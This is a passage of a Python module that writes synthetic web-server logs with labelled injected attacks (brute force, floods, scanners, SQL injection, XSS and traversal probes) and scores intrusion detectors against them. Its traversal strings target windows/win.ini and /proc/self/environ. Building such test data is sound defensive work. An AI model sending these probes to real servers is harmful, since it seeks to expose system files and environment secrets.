    traversal += [f"{d}windows/win.ini" for d in depth] + [f"{d}proc/self/environ" for d in depth]
    params = ("page", "file", "inc", "template")
    targets: list[str] = []
    for block in range(3):
        targets += [f"/index.php?{params[block]}={v}" for v in traversal]
        targets += [f"/index.php?{params[block]}={v}" for v in INCLUSION_PAYLOADS]
        targets += [f"/index.php?{params[block + 1]}={v}" for v in INCLUSION_PAYLOADS]
    ip = world.addresses.attacker()
    return _probes(ip, at, 1.0, [(targets, 200)], lambda i: "curl/8.4.0", world.rand)


ATTACKS: tuple[AttackSpec, ...] = (
    AttackSpec("wordpress_bruteforce", "bruteforce", 10, ("bruteforce.wordpress",),
               wordpress_bruteforce, "280 failed logins on wp-login.php, one every 2 s"),
    AttackSpec("xmlrpc_bruteforce", "bruteforce", 20, ("bruteforce.xmlrpc",),
               xmlrpc_bruteforce, "60 POSTs to xmlrpc.php, one every 20 s"),
    AttackSpec("credential_stuffing", "bruteforce", 95, ("bruteforce.stuffing",),
               credential_stuffing, "about 80 addresses (4 small networks), each 2-6 failed "
               "logins on /connexion/, minutes apart"),
    AttackSpec("http_auth_bruteforce", "bruteforce", 8, ("bruteforce.generic",),
               http_auth_bruteforce, "480 basic-auth guesses on /intranet/ (401), 1 a second"),
    AttackSpec("ip_flood", "flood", 3, ("flood.ip",), ip_flood,
               "one address, 12 requests/s on 25 pages for 3 min"),
    AttackSpec("url_flood", "flood", 3, ("flood.url",), url_flood,
               "20 addresses (12 in one /24) on /wp-json/wp/v2/posts, 2.5x the site's rate"),
    AttackSpec("distributed_flood", "flood", 3, ("flood.distributed",), distributed_flood,
               "400 new addresses (25 small networks and singles), 10x the site's mean rate"),
    AttackSpec("random_uri_flood", "dos", 1.4,
               ("dos.random_uri", "scan.probing", "flood.ip", "crawl.non_static"),
               random_uri_flood, "12 requests/s on random /ABCDEF paths for 80 s"),
    AttackSpec("cache_bypass_flood", "dos", 2, ("dos.bypass_cache",), cache_bypass_flood,
               "4 requests/s on /?<10 digits> for 2 min"),
    AttackSpec("switching_ua_flood", "dos", 3, ("dos.switching_ua",), switching_ua_flood,
               "2.5 requests/s, a new user agent on each"),
    AttackSpec("error_flood", "errors", 2, ("burst.errors",), error_flood,
               "5 addresses flooding wp-comments-post.php, answered 503"),
    AttackSpec("vuln_scanner", "scan", 4,
               ("scan.bad_user_agent", "scan.probing", "scan.sensitive_files",
                "scan.admin_interface", "scan.wordpress", "probe.path_traversal",
                "crawl.non_static", "dos.switching_ua"),
               vuln_scanner, "Nikto at 3 requests/s (a new test id in its agent each time)"),
    AttackSpec("wordpress_scanner", "scan", 4.5,
               ("scan.bad_user_agent", "scan.wordpress", "scan.probing", "crawl.non_static"),
               wordpress_scanner, "WPScan trying 918 plugins at 4 requests/s"),
    AttackSpec("stealth_scanner", "scan", 4.5,
               ("scan.probing", "scan.sensitive_files", "scan.admin_interface"),
               stealth_scanner, "a browser's agent, one probe every 2 s"),
    AttackSpec("sqli_prober", "probe", 4, ("probe.sqli", "scan.bad_user_agent"), sqli_prober,
               "sqlmap on /actualites/?id=, 2 requests/s"),
    AttackSpec("xss_prober", "probe", 3, ("probe.xss",), xss_prober,
               "script injection in the search box, 1.5 requests/s"),
    AttackSpec("lfi_prober", "probe", 2.2, ("probe.path_traversal", "probe.inclusion"),
               lfi_prober, "traversal and file inclusion on /index.php, 1 request/s"),
)  # fmt: skip
"""Every injected attack."""


# --------------------------------------------------------------------------- assembly


@dataclass(frozen=True)
class Slotted:
    """Something that needs its own stretch of time: an attack, or a near miss."""

    name: str
    minutes: float
    make: Callable[[World, int], tuple[pl.DataFrame, Label]]


def _attack(spec: AttackSpec) -> Slotted:
    def make(world: World, at: int) -> tuple[pl.DataFrame, Label]:
        frame = spec.build(world, at)
        ips = frame["ip"].unique().to_list()
        return frame, _label(spec.name, spec.kind, ips, spec.expected, frame, spec.note)

    return Slotted(spec.name, spec.minutes, make)


NEAR_MISSES: tuple[Slotted, ...] = (
    Slotted("aggressive_crawler", 6, aggressive_crawler),
    Slotted("newsletter_surge", 25, newsletter_surge),
)
MARGIN_MINUTES = 15
"""Quiet time either side of each slot (more than any detector's merge gap, blackhole
or window)."""
LEAD_MINUTES = 45
"""No slot starts in the log's first minutes, where every address is new."""


def schedule(rand: Rand, clock: Clock, minutes: Sequence[float]) -> list[int]:
    """Start times (µs) of slots of the given lengths: in random order, never closer than
    two margins, spread over the span."""
    margin, lead = MARGIN_MINUTES * _MIN, LEAD_MINUTES * _MIN
    needs = [int(m * _MIN) + 2 * margin for m in minutes]
    free = clock.span_us - lead - sum(needs)
    if free < 0:
        hours = (lead + sum(needs)) / (3600 * _US)
        raise ValueError(f"the span is too short for the attacks: at least {hours:.1f} hours")
    order = list(range(len(minutes)))
    rand.py.shuffle(order)
    cuts = sorted(rand.py.random() for _ in order)
    starts = [0] * len(minutes)
    t, previous = clock.start_us + lead, 0.0
    for slot, cut in zip(order, cuts, strict=True):
        t += int((cut - previous) * free)
        previous = cut
        starts[slot] = t + margin
        t += needs[slot]
    return starts


def generate(
    lines: int,
    seed: int,
    start: datetime,
    *,
    span: timedelta = timedelta(days=1),
    tz: str = "Europe/Paris",
    jitter: float = 60.0,
    attacks: bool = True,
) -> GeneratedLog:
    """A labelled log of exactly ``lines`` lines covering ``span`` from ``start``.

    ``tz`` is the server's zone (the offsets written in the lines); ``jitter`` the
    most seconds a line is written after its request time; ``attacks=False`` leaves
    only benign traffic (near misses included). ``ValueError`` says what is too small.
    """
    world = _world(lines, seed, start, span, tz, jitter)
    slotted = (*NEAR_MISSES, *(_attack(spec) for spec in ATTACKS if attacks))
    starts = schedule(world.rand, world.clock, [s.minutes for s in slotted])
    parts = [item.make(world, at) for item, at in zip(slotted, starts, strict=True)]
    parts += [
        search_crawlers(world, int(lines * CRAWLER_SHARE)),
        monitoring(world),
        office(world, int(lines * OFFICE_SHARE)),
        mobile_nat(world),
        background_noise(world, lines),
    ]
    extra = one_off_clients(world, int(lines * ONE_OFF_SHARE))
    fixed = extra.height + sum(frame.height for frame, _ in parts)
    target = lines - fixed
    if target < lines * MIN_BENIGN_SHARE:
        least = math.ceil(fixed / (1 - MIN_BENIGN_SHARE))
        raise ValueError(f"{lines} lines leave too little benign traffic: use at least {least}")
    benign = _trim(world.rand, benign_visits(world, target), target)
    rows = pl.concat([benign, extra, *(frame for frame, _ in parts)])
    labels = tuple(sorted((label for _, label in parts), key=lambda lb: (lb.start, lb.name)))
    text = render(rows, tz, jitter, world.rand)
    first, last = _span(rows)
    return GeneratedLog(text, labels, to_utc(first), to_utc(last), seed)


def _world(
    lines: int, seed: int, start: datetime, span: timedelta, tz: str, jitter: float
) -> World:
    if lines < 1:
        raise ValueError("lines must be at least 1")
    if span <= timedelta(0):
        raise ValueError("span must be positive")
    if not 0 <= jitter <= 3600:
        raise ValueError("jitter must be between 0 and 3600 seconds")
    try:
        zone = ZoneInfo(tz)
    except (ValueError, KeyError) as exc:
        raise ValueError(f"unknown time zone {tz!r}") from exc
    start = start if start.tzinfo else start.replace(tzinfo=UTC)
    offset = start.astimezone(zone).utcoffset() or timedelta(0)
    rand = Rand(seed)
    span_us = span // timedelta(microseconds=1)
    clock = Clock(_epoch_us(start), span_us, int(offset.total_seconds()))
    rate = lines / (span_us / _MIN)
    return World(rand, clock, build_site(rand), Addresses(rand), rate)


def _trim(rand: Rand, frame: pl.DataFrame, keep: int) -> pl.DataFrame:
    """``keep`` rows of ``frame`` chosen at random (the surplus of the last batch of visits)."""
    if frame.height <= keep:
        return frame
    drop = frame.with_columns(rand.uniform(frame.height).alias("_k"))
    return drop.sort("_k").head(keep).drop("_k")


CLF_TIME = "%d/%b/%Y:%H:%M:%S %z"


def render(rows: pl.DataFrame, tz: str, jitter: float, rand: Rand) -> pl.Series:
    """Combined-format lines, each written up to ``jitter`` seconds after its request."""
    late = (rand.uniform(rows.height) * jitter * _US).cast(pl.Int64)
    ordered = rows.with_columns((pl.col("ts") + late).alias("_w")).sort("_w", maintain_order=True)
    when = (
        pl.from_epoch(pl.col("ts"), time_unit="us")
        .dt.replace_time_zone("UTC")
        .dt.convert_time_zone(tz)
        .dt.strftime(CLF_TIME)
    )
    size = pl.when(pl.col("bytes") > 0).then(pl.col("bytes").cast(pl.String)).otherwise(pl.lit("-"))
    referer = pl.when(pl.col("referer") != "").then(pl.col("referer")).otherwise(pl.lit("-"))
    line = pl.concat_str(
        pl.col("ip"), pl.lit(" - "), pl.col("user"), pl.lit(" ["), when, pl.lit('] "'),
        pl.col("method"), pl.lit(" "), pl.col("path"), _query_suffix(), pl.lit(" "),
        pl.col("proto"), pl.lit('" '), pl.col("status").cast(pl.String), pl.lit(" "), size,
        pl.lit(' "'), referer, pl.lit('" "'), pl.col("ua"), pl.lit('"'),
    )  # fmt: skip
    return ordered.select(line.alias("line")).to_series()


# --------------------------------------------------------------------------- scoring


class AddressIndex:
    """The log's addresses, to expand a source that is a network (``198.51.100.0/24``)
    into the addresses inside it: what a block list would stop."""

    def __init__(self, addresses: Iterable[str]) -> None:
        self.by_net: dict[str, list[str]] = {}
        self.written: dict[str, str] = {}
        """Canonical text → the address as the log writes it."""
        self.parsed: list[tuple[str, ipaddress.IPv4Address | ipaddress.IPv6Address]] = []
        for ip in addresses:
            try:
                addr = ipaddress.ip_address(ip)
            except ValueError:
                continue
            self.parsed.append((ip, addr))
            self.written[str(addr)] = ip
            prefix = 24 if addr.version == 4 else 64
            net = str(ipaddress.ip_network(f"{addr}/{prefix}", strict=False))
            self.by_net.setdefault(net, []).append(ip)

    def members(self, source: str) -> list[str]:
        """``source`` itself when it is an address, else the addresses inside it."""
        if "/" not in source:
            return [source]
        try:
            net = ipaddress.ip_network(source, strict=False)
        except ValueError:
            return []
        if net.prefixlen == net.max_prefixlen:
            address = str(net.network_address)
            return [self.written.get(address, address)]
        if str(net) in self.by_net:
            return self.by_net[str(net)]
        return [ip for ip, addr in self.parsed if addr.version == net.version and addr in net]


def flagged_addresses(
    incidents: Iterable[Incident], addresses: Iterable[str]
) -> dict[str, dict[str, Severity]]:
    """Per detector id, every address it flagged, with the highest severity (a network
    stands for each of ``addresses``, the log's, inside it)."""
    index = AddressIndex(addresses)
    out: dict[str, dict[str, Severity]] = {}
    for incident in incidents:
        seen = out.setdefault(incident.kind, {})
        for source in incident.sources:
            for ip in index.members(source):
                seen[ip] = max(seen.get(ip, incident.severity), incident.severity)
    return out


CROWD_DETECTORS = frozenset({"flood.distributed", "bruteforce.stuffing", "flood.url"})
"""Detectors that name everyone who did the counted thing during an incident, bystanders
included (see :func:`bystanders`)."""


def bystanders(incident: Incident, df: pl.DataFrame) -> set[str]:
    """Addresses of ``df`` (the parsed log) that did, inside the incident's span, what its
    crowd detector counts, so that it names them with the attackers: for
    ``flood.distributed`` a first request, for ``bruteforce.stuffing`` a failed login POST
    on the incident's path, for ``flood.url`` a request for its path. Empty for the others."""
    if incident.kind not in CROWD_DETECTORS:
        return set()
    inside = pl.col("ts").is_between(incident.start, incident.end)
    if incident.kind == "flood.distributed":
        first = df.group_by("ip").agg(pl.col("ts").min())
        return set(first.filter(inside)["ip"].to_list())
    path = dict(incident.details).get("path", "")
    rows = df.filter(inside & (pl.col("path").str.to_lowercase() == path.lower()))
    if incident.kind == "bruteforce.stuffing":
        rows = rows.filter((pl.col("method") == "POST") & pl.col("status").is_in([200, 401, 403]))
    return set(rows["ip"].to_list())


# --------------------------------------------------------------------------- command line

DEFAULT_START = datetime(2027, 3, 9, 23, 0, tzinfo=UTC)
"""Midnight in Paris, 10 March 2027 (a campaign's last weeks)."""


def main(argv: Sequence[str] | None = None) -> int:
    """``python -m rempart.logs.generate --lines N --seed S --out FILE [--labels FILE]``."""
    parser = argparse.ArgumentParser(
        prog="python -m rempart.logs.generate",
        description=__doc__.split("\n\n")[0] if __doc__ else None,
    )
    parser.add_argument("--lines", type=int, default=1_000_000, help="lines to write (1000000)")
    parser.add_argument("--seed", type=int, default=2027, help="random seed (2027)")
    parser.add_argument("--out", required=True, help="log file to write (.gz: gzip)")
    parser.add_argument("--labels", help="JSON file for the labels")
    parser.add_argument("--start", default=DEFAULT_START.isoformat(), help="first time, ISO 8601")
    parser.add_argument("--days", type=float, default=1.0, help="span in days (1)")
    parser.add_argument("--tz", default="Europe/Paris", help="the server's time zone")
    parser.add_argument("--jitter", type=float, default=60.0, help="most seconds a line is late")
    parser.add_argument("--no-attacks", action="store_true", help="benign traffic only")
    args = parser.parse_args(argv)
    try:
        start = datetime.fromisoformat(args.start)
        log = generate(args.lines, args.seed, start, span=timedelta(days=args.days), tz=args.tz,
                       jitter=args.jitter, attacks=not args.no_attacks)  # fmt: skip
        size = log.write(args.out)
        if args.labels:
            Path(args.labels).write_text(json.dumps(log.labels_dict(), indent=2) + "\n")
    except (ValueError, OSError) as exc:
        print(f"generate: {exc}", file=sys.stderr)
        return 2
    attacks = sum(1 for label in log.labels if label.is_attack)
    print(f"{args.out}: {len(log.lines)} lines, {size} bytes, {log.start:%Y-%m-%d %H:%M} to "
          f"{log.end:%Y-%m-%d %H:%M} UTC, {attacks} attacks labelled", file=sys.stderr)  # fmt: skip
    return 0


if __name__ == "__main__":
    sys.exit(main())
